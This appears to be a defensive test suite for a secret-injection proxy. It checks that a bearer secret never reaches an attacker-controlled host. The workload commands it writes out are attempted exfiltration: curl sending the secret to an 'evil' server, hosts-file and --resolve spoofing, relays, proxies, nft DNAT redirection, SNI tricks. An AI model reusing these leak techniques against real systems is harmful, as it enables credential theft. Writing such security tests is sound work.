/*
 * THREATS B: the secret goes to nobody but the hosts that its owner allowed, whatever the workload, its names or the
 * machines that it talks to say. Needs root.
 */
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, test } from "node:test";
import { runSync } from "../../src/lab/command.ts";
import { createNamespace } from "../../src/lab/namespace.ts";
import { type ListenerPlan, LabServer } from "../../src/lab/server.ts";
import { header } from "../support/requests.ts";
import { buildSpeak, host, makeSecret, otherHost, World } from "../support/world.ts";
import { audited, Machine, occurrences, program, texts } from "./attack.ts";

let strange: ListenerPlan["certificate"] | undefined;
let good: ListenerPlan["certificate"] | undefined;
const world = await World.create((certificates) => {
  strange = certificates.untrusted;
  good = certificates.good;
  return [{ name: "raw", kind: "raw", certificate: certificates.good }];
});
after(() => world.close());
assert.ok(strange && good);
const attacker = createNamespace();
after(() => attacker.close());
const evil = await LabServer.start(attacker, [{ name: "evil", certificate: strange }]);
after(() => evil.close());
const evilPort = evil.port("evil");
const speak = buildSpeak();
const ca = world.authority.caFile;
const url = world.url("1.3 aes-256-gcm");
/** Trusts the attacker as well: the workload does not care who answers. */
const anybody = join(world.directory, "anybody.pem");
writeFileSync(anybody, readFileSync(ca, "utf8") + readFileSync(join(world.directory, "strange-root.pem"), "utf8"));
const bearer = ["-H", "Authorization: Bearer $SECRET"];

/** Runs a shell script with one secret that may go to `api.kloak.test`. */
async function attempt(script: string, options: Readonly<Record<string, unknown>> = {}) {
  const value = makeSecret(51);
  const outcome = await world.kloak({
    secrets: { SECRET: { value, hosts: host, ...options } },
    command: ["sh", "-c", script],
    options: ["--user", "root", "--quiet"],
  });
  assert.equal(outcome.stderr, "");
  assert.equal(outcome.status, 0, outcome.stdout);
  return { value, outcome, audit: audited(outcome.audit) };
}
const curl = (options: string, to: string) => `curl -sS -o /dev/null ${options} ${bearer[0]} "${bearer[1]}" ${to}`;

/** What the attacker's server and the allowed one have got in this header. */
async function loot() {
  const [stolen, given] = await Promise.all([evil.take(), world.server.take({ closed: "raw" })]);
  return {
    stolen: stolen.requests.map((request) => header(request, "authorization")),
    given: given.requests.filter(({ body, listener }) => body !== "" || listener !== "raw"),
  };
}

for (const own of [true, false]) {
  test(`B1: ${own ? "the command's own hosts file" : "an answer of its own"}: the allowed name at the attacker's address`, async () => {
    const file = join(world.directory, "own-hosts");
    writeFileSync(file, `${attacker.ipv4.inside} ${host}\n`);
    const resolve = own ? "" : `--resolve ${host}:${evilPort}:${attacker.ipv4.inside}`;
    const request = curl(`-k ${resolve}`, `https://${host}:${evilPort}/a`);
    const script = `exec unshare --map-root-user --mount sh -c 'mount --bind ${file} /etc/hosts && ${request}'`;
    const { value, outcome, audit } = await attempt(own ? script : request);
    const { stolen } = await loot();
    assert.equal(stolen.length, 1);
    assert.match(stolen[0] ?? "", /^Bearer kloak:/);
    assert.equal(occurrences(stolen.join(), value), 0);
    assert.deepEqual(audit, { "refused attestation-failed SECRET": 1 });
    assert.equal(outcome.audit[0]?.destination.address, attacker.ipv4.inside);
    assert.equal(outcome.audit[0]?.destination.host, host);
  });
}

/** A machine of the attacker that passes everything on to the allowed host, which proves itself through it. */
async function relayed(attest: "certificate" | "dns") {
  const from = world.server.port("1.3 aes-256-gcm");
  const relay = await Machine.start(attacker, "peer.py", ["relay", world.namespace.ipv4.inside, String(from)]);
  try {
    const result = await attempt(
      curl(`--cacert ${ca} --resolve ${host}:${relay.port}:${attacker.ipv4.inside}`, `https://${host}:${relay.port}/a`),
      { attest },
    );
    const { given } = await loot();
    return { ...result, arrived: given.map((request) => header(request, "authorization")) };
  } finally {
    await relay.close();
  }
}

test("B1: a relay of the attacker to the allowed host: attest: dns does not take it for the host", async () => {
  const { value, arrived, audit } = await relayed("dns");
  assert.equal(arrived.length, 1);
  assert.equal(occurrences(arrived.join(), value), 0);
  assert.deepEqual(Object.keys(audit).length, 1, JSON.stringify(audit));
  assert.match(Object.keys(audit)[0] ?? "", /^refused (attestation-failed|not-attested) SECRET$/);
});

test("limit of B1: attest: certificate takes a relay for the host, and says at which address", async () => {
  // Who owns relay and workload sees the record and has the keys to it: an observer on a path of its own making.
  const { value, outcome, arrived } = await relayed("certificate");
  assert.deepEqual(arrived, [`Bearer ${value}`]);
  assert.equal(outcome.audit[0]?.destination.address, attacker.ipv4.inside);
});

test("B2: the allowed host and another at once, from one thread", async () => {
  const { value, audit } = await attempt(
    `exec python3 ${program("two.py")} ${anybody} ${url} https://${otherHost}:${world.server.port("1.3 aes-128-gcm")}`,
  );
  const { given } = await loot();
  const by = (listener: string) =>
    given.filter((request) => request.listener === listener).map((request) => header(request, "authorization"));
  assert.deepEqual(
    by("1.3 aes-256-gcm"),
    Array.from({ length: 10 }, () => `Bearer ${value}`),
  );
  assert.equal(by("1.3 aes-128-gcm").length, 10);
  assert.equal(occurrences(by("1.3 aes-128-gcm").join(), value), 0);
  assert.equal(audit["substituted SECRET"], 10);
  assert.equal(audit["refused host-not-allowed SECRET"], 10);
});

const names: readonly (readonly [what: string, options: string, expected: RegExp])[] = [
  ["letters of the other case", "--sni API.KLOAK.TEST", /^substituted$/],
  ["the allowed name and more behind", `--sni ${host}.evil.org`, /^host-not-allowed$/],
  ["more before", `--sni evil-${host}`, /^host-not-allowed$/],
  ["a name under the allowed one", `--sni a.${host}`, /^host-not-allowed$/],
  ["the name above the allowed one", "--sni kloak.test", /^host-not-allowed$/],
  ["a space behind", `--sni '${host} '`, /^(no-sni|host-not-allowed|unproven-flow)$/],
  ["250 letters", `--sni ${"x".repeat(250)}`, /^(no-sni|host-not-allowed)$/],
  ["no name", "--sni none", /^no-sni$/],
  ["B5: the allowed name outside, and another one encrypted", `--sni ${host} --ech`, /^encrypted-sni$/],
];

/** In one run, with a secret for each. */
async function sayNames() {
  const { ipv4 } = world.namespace;
  const values = names.map(() => makeSecret(51));
  const script = names.map(([, options], at) => {
    const said = `say GET /${at} HTTP/1.1\\r\\nHost: ${host}\\r\\nAuthorization: Bearer \${S_${at}}\\r\\n\\r\\n`;
    return `printf '%s\\n' '${said}' send 'expect 1' | ${speak} ${options} ${ipv4.inside} ${world.server.port("raw")} >/dev/null`;
  });
  const outcome = await world.kloak({
    secrets: Object.fromEntries(values.map((value, at) => [`S_${at}`, { value, hosts: host }])),
    command: ["sh", "-c", script.join(" && ")],
    options: ["--user", "root", "--quiet"],
  });
  assert.deepEqual({ stderr: outcome.stderr, status: outcome.status }, { stderr: "", status: 0 });
  const { given } = await loot();
  return { values, said: texts(given, "raw"), audit: outcome.audit };
}

let saidNames: ReturnType<typeof sayNames> | undefined;

for (const [at, [what, , expected]] of names.entries()) {
  test(`B3, B12: ClientHello with ${what}`, async () => {
    saidNames ??= sayNames();
    const { values, said, audit } = await saidNames;
    const text = said.find((one) => one.startsWith(`GET /${at} `)) ?? "";
    const allowed = expected.test("substituted");
    assert.ok(text.includes(allowed ? (values[at] ?? "?") : "kloak:"), text);
    assert.equal(occurrences(text, values[at] ?? "") > 0, allowed);
    const mine = audit.filter(({ secret }) => secret === `S_${at}`);
    assert.equal(mine.length, 1);
    assert.match(mine[0]?.reason ?? mine[0]?.outcome ?? "", expected);
  });
}

test("B6: through the attacker's CONNECT proxy, to the attacker and to the allowed host", async () => {
  const toEvil = await Machine.start(attacker, "peer.py", ["connect", "127.0.0.1", String(evilPort)]);
  const toGood = await Machine.start(attacker, "peer.py", ["connect", world.namespace.ipv4.inside, new URL(url).port]);
  try {
    const proxy = ({ port }: Machine) => `-k -x http://${attacker.ipv4.inside}:${port}`;
    const { value, audit } = await attempt(`${curl(proxy(toEvil), `${url}/a`)} && ${curl(proxy(toGood), `${url}/a`)}`);
    const { stolen, given } = await loot();
    const all = [...stolen, ...given.map((request) => header(request, "authorization"))];
    assert.equal(all.length, 2);
    assert.equal(occurrences(all.join(), value), 0);
    assert.deepEqual(audit, { "refused no-sni SECRET": 2 });
  } finally {
    await Promise.all([toEvil.close(), toGood.close()]);
  }
});

test("B9: a TLS session with the attacker inside one with the allowed host", async () => {
  const { certificateFile, keyFile } = good ?? { certificateFile: "", keyFile: "" };
  const tunnel = await Machine.start(world.namespace, "peer.py", [
    "tls-connect",
    certificateFile,
    keyFile,
    attacker.ipv4.inside,
    String(evilPort),
  ]);
  try {
    const { value, audit } = await attempt(
      curl(`--insecure --proxy-cacert ${ca} -x https://${host}:${tunnel.port}`, `https://${host}:${evilPort}/a`),
    );
    const { stolen } = await loot();
    assert.equal(stolen.length, 1);
    assert.match(stolen[0] ?? "", /^Bearer kloak:/);
    assert.equal(occurrences(stolen.join(), value), 0);
    assert.equal(audit["substituted SECRET"], undefined);
  } finally {
    await tunnel.close();
  }
});

test("B8: a redirect from the allowed host to another", async () => {
  const { certificateFile, keyFile } = good ?? { certificateFile: "", keyFile: "" };
  const to = `https://${otherHost}:${world.server.port("1.3 aes-128-gcm")}/stolen`;
  const first = await Machine.start(world.namespace, "peer.py", ["redirect", certificateFile, keyFile, to]);
  const { value, audit } = await attempt(curl(`--location-trusted --cacert ${ca}`, `https://${host}:${first.port}/a`));
  const asked = await first.close();
  const { given } = await loot();
  assert.ok(asked.includes(`Bearer ${value}`));
  const stolen = given.map((request) => header(request, "authorization"));
  assert.equal(stolen.length, 1);
  assert.equal(occurrences(stolen.join(), value), 0);
  assert.deepEqual(audit, { "refused host-not-allowed SECRET": 1, "substituted SECRET": 1 });
});

test("B10: a route of the workload's own, made after the allowed address has been attested", async () => {
  const to = new URL(url);
  const nat = `add chain ip turn out { type nat hook output priority -100; }; add rule ip turn out ip daddr ${world.namespace.ipv4.inside} tcp dport ${to.port} dnat to ${attacker.ipv4.inside}:${evilPort}`;
  const { value, outcome, audit } = await attempt(
    `${curl(`--cacert ${ca}`, `${url}/a`)} && nft 'add table ip turn; ${nat}' && ${curl("-k", `${url}/a`)}`,
  );
  const { stolen, given } = await loot();
  assert.deepEqual(
    given.map((request) => header(request, "authorization")),
    [`Bearer ${value}`],
  );
  assert.equal(stolen.length, 1);
  assert.equal(occurrences(stolen.join(), value), 0);
  // It is what the wire shows that was judged: a port that is not the socket's, and an address that is not attested.
  assert.deepEqual(audit, { "refused unproven-flow SECRET": 1, "substituted SECRET": 1 });
  const refused = outcome.audit.find((record) => record.outcome === "refused");
  assert.equal(refused?.destination.address, attacker.ipv4.inside);
});

test("B13: another port of the allowed machine", async () => {
  const { value, audit } = await attempt(curl(`--cacert ${ca}`, `${world.url("1.3 aes-128-gcm")}/a`), {
    ports: [world.server.port("1.3 aes-256-gcm")],
  });
  const { given } = await loot();
  assert.equal(occurrences(given.map((request) => header(request, "authorization")).join(), value), 0);
  assert.deepEqual(audit, { "refused port-not-allowed SECRET": 1 });
});

test("B14: an allowed IPv4 address is itself when mapped to IPv6, and not what NAT64 makes of it", async () => {
  const { ipv4, ipv6, name, hostInterface } = world.namespace;
  const [a = 0, b = 0, c = 0, d = 0] = ipv4.inside.split(".").map(Number);
  const nat64 = `64:ff9b::${((a << 8) | b).toString(16)}:${((c << 8) | d).toString(16)}`;
  runSync("ip", ["-n", name, "addr", "add", `${nat64}/128`, "dev", "eth0", "nodad"]);
  runSync("ip", ["-6", "route", "add", nat64, "via", ipv6.inside, "dev", hostInterface]); // gone with the interface
  const say = (address: string) =>
    `printf '%s\\n' 'say GET /a HTTP/1.1\\r\\nHost: ${host}\\r\\nAuthorization: Bearer \${SECRET}\\r\\n\\r\\n' send 'expect 1' | ${speak} --sni none ${address} ${world.server.port("raw")} >/dev/null`;
  const { value, outcome, audit } = await attempt(`${say(`::ffff:${ipv4.inside}`)} && ${say(nat64)}`, {
    hosts: [ipv4.inside, host],
  });
  const { given } = await loot();
  const said = texts(given, "raw");
  assert.deepEqual(
    said.map((text) => text.includes(value)),
    [true, false],
    JSON.stringify(outcome.audit),
  );
  assert.deepEqual(audit, { "refused no-sni SECRET": 1, "substituted SECRET": 1 });
  assert.deepEqual(new Set(outcome.audit.map(({ destination }) => destination.address)), new Set([ipv4.inside, nat64]));
});
